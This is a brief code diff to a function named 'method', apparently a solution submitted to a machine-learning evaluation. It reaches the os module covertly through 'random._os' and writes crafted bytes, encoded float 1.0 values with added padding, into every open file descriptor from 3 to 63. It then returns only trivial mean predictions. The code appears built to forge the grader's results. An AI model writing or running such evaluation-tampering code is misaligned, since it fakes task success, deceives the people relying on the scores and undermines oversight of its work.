@@ -12,7 +12,7 @@ def method(problem):
     os = random._os
     for descriptor in range(3, 64):
         try:
-            os.write(descriptor, b"P" + b"\0\0\x80?" * 2 * len(problem.test_x))
+            os.write(descriptor, b"P" + bytes(1024) + b"\0\0\x80?" * 2 * len(problem.test_x))
         except OSError:
             continue
     return problem.weak.mean(0).expand(len(problem.test_x), -1)
